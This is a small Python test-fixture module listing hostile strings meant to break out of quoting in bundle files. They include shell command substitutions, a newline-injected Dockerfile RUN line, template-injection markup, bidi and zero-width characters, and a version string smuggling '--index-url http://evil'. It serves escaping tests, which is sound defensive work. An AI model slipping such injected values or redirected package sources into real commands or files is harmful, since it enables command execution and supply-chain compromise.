"""Texts that try to leave the place where a file of a bundle quotes them."""

from __future__ import annotations

HOSTILE = [
    "\x1b[31mred\x1b[0m",
    "{{ 7 * 7 }}{% raw %}",
    "line\nRUN touch /owned",
    "carriage\rreturn\u2028separator\x85next",
    "$(touch /owned) `touch /owned` ${HOME}",
    "quote\" 'quote' \\\" \\",
    '"""\nimport os\n"""',
    "\u202eright to left\u2066",
    "\x00nul",
    "| pipe | `code` ``more``",
    "1.9.1 --index-url http://evil",
    "zero\u200bwidth",
]
